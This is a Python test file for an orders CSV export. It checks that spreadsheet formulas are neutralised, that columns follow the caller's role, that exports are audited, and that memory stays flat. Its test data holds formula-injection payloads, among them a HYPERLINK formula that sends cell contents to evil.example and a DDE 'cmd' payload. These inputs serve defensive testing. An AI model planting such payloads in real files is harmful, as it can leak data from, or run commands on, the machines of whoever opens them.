"""CSV export: the current filter, in the caller's view, safe to open in a spreadsheet, audited,
and streamed with memory that does not grow with the number of orders."""

from __future__ import annotations

import csv
import io
import tracemalloc
import uuid
from typing import Any

import pytest

from lib.orders import exports
from lib.orders.schemas import OrderFilters
from lib.tenancy import Actor, RequestMeta, Role, TenantContext
from tests.api.orders.conftest import Shop
from tests.api.orders.test_search import _fill
from tests.conftest import Database
from tests.order_samples import order_payload


def _rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith('attachment; filename="pedidos-')
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel opens it as UTF-8
    return list(csv.DictReader(io.StringIO(text[1:])))


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "line": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reference": "-2+3",
    "notes": "+1 esto no es una fórmula",
    "tab": "\t=1+1",
}


def test_cells_a_spreadsheet_would_evaluate_are_neutralised(shop: Shop) -> None:
    payload = order_payload(notes=HOSTILE["notes"])
    payload["customer"]["name"] = HOSTILE["name"]
    payload["address"]["line"] = HOSTILE["line"]
    payload["address"]["reference"] = HOSTILE["reference"]
    assert shop["admin"].post("/api/orders", json=payload).status_code == 201
    [row] = _rows(shop["admin"].get("/api/orders/export"))
    assert row["customer_name"] == "'" + HOSTILE["name"]
    assert row["address_line"] == "'" + HOSTILE["line"]
    assert row["address_reference"] == "'" + HOSTILE["reference"]
    assert row["notes"] == "'" + HOSTILE["notes"]
    assert row["customer_phone"] == "'+51987654321"
    # ordinary cells are left as they are
    assert row["district"] == "Miraflores" and row["total"] == "109.80" and row["status"] == "pending"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+51", "'+51"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Ana", "Ana"),
        ("1-2", "1-2"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_neutralise(value: object, expected: str) -> None:
    assert exports.neutralise(value) == expected


def test_the_export_follows_the_filter(shop: Shop) -> None:
    first = shop.capture("admin")
    shop.step(shop.capture("admin", external_ref="X-2"), "confirm")
    codes = {row["code"] for row in _rows(shop["admin"].get("/api/orders/export?status=pending"))}
    assert codes == {first["code"]}
    assert len(_rows(shop["admin"].get("/api/orders/export"))) == 2


def test_logistics_exports_its_delivery_view_and_the_office_everything(shop: Shop) -> None:
    pending = shop.capture("admin")
    confirmed = shop.step(shop.capture("admin", external_ref="X-3"), "confirm")
    office = _rows(shop["supervisor"].get("/api/orders/export"))
    assert {row["code"] for row in office} == {pending["code"], confirmed["code"]}
    assert {"total", "payment_status", "document_number", "customer_email", "subtotal"} <= set(office[0])

    delivery = _rows(shop["logistics"].get("/api/orders/export"))
    assert [row["code"] for row in delivery] == [confirmed["code"]]
    columns = set(delivery[0])
    assert not columns & {"total", "subtotal", "discount", "shipping", "payment_status", "document_number"}
    assert not columns & {"customer_email", "seller_email", "notes", "external_ref"}
    assert delivery[0]["amount_to_collect"] == "109.80"
    assert delivery[0]["items"] == "2 x Polo negro M [POLO-NEGRO-M]; 1 x Gorra bordada [GORRA-01]"
    assert shop["seller"].get("/api/orders/export").status_code == 403


def test_every_export_is_audited_with_its_filter(shop: Shop) -> None:
    shop.capture("admin")
    _rows(shop["logistics"].get("/api/orders/export?ubigeo=150122"))  # a filter its view shows
    with shop.database.connect("superuser") as conn:
        [(actor, role, after)] = conn.execute(
            "SELECT actor_user_id, actor_role, after FROM audit_events WHERE org_id = %s AND action = 'order.exported'",
            (shop.org,),
        ).fetchall()
    assert (actor, role) == (shop.accounts["logistics"].id, "LOGISTICS")
    assert after["filters"] == {"ubigeo": "150122"} and after["rows"] == 0
    assert "total" not in after["columns"]


def _peak_bytes(ctx: TenantContext) -> tuple[int, int]:
    """Peak memory allocated while streaming the whole export, and the bytes it produced."""
    tracemalloc.start()
    try:
        size = sum(len(chunk) for chunk in exports.start(ctx, OrderFilters()))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, size


def test_memory_stays_flat_as_the_export_grows(database: Database) -> None:
    small, _ = _fill(database, "Exporta Poco", 1_000)
    large, _ = _fill(database, "Exporta Mucho", 10_000)

    def context(org: uuid.UUID) -> TenantContext:
        return TenantContext(
            org, Actor(uuid.uuid4(), Role.ADMIN), RequestMeta(request_id="export", client_ip=None, user_agent=None)
        )

    _peak_bytes(context(small))  # warm: imports and pool connections are not the export's
    small_peak, small_size = _peak_bytes(context(small))
    large_peak, large_size = _peak_bytes(context(large))
    assert large_size > 9 * small_size
    # Ten times the rows, not ten times the memory: bounded by one batch, not by the file.
    assert large_peak < 2 * small_peak, (small_peak, large_peak)
